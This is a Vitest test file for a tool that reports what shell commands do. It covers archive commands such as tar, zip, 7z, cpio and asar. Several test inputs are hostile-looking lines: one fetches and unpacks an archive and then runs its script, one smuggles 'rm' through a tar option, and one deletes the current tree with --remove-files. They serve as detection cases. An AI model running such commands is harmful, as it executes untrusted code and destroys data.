/** What packing and unpacking writes, and what an archive with unknown contents may hold. */
import { describe, expect, test } from "vitest";
import { does } from "../../does.fixture.ts";

describe("archives", () => {
  test.each([
    [
      "curl -L https://h/a.tgz | tar xzf - && sh run.sh",
      "writes ?; HIDDEN it runs what a fetched archive holds; runs run.sh; network",
    ],
    [
      "base64 -d a.b64 | tar x; sh run.sh",
      "writes ?; HIDDEN it runs what a fetched archive holds; runs run.sh",
    ],
    ["tar xf a.tar && sh run.sh", "writes ?; runs run.sh"],
    ["tar", "nothing"],
    ["tar --use-compress-program='rm b' -cf x y", "writes b x"],
    ["tar xf a.tar --to-command='touch exec=x'", "writes exec=x ?"],
    [
      "curl -o a.tgz https://h; tar --extract --file=a.tgz; sh run.sh",
      "writes a.tgz ?; HIDDEN it runs what a fetched archive holds; runs run.sh; network",
    ],
    ["tar c dir | cat", "nothing"],
    ["tar cf a.tar --remove-files .", "writes a.tar .; GOVERNANCE the tree it changes holds the governance"],
    [
      "curl -o a.zip https://h; unzip a.zip; sh run.sh",
      "writes a.zip ?; HIDDEN it runs what a fetched archive holds; runs run.sh; network",
    ],
    ["zip -r out.d/c src", "writes out.d/c.zip"],
    ["7z a", "nothing"],
    ["cpio -it < a.cpio", "nothing"],
    ["asar extract a.asar out", "writes ?"],
    ["asar list a.asar", "nothing"],
  ])("%s: %s", (line, effect) => expect(does(line)).toBe(effect));
});
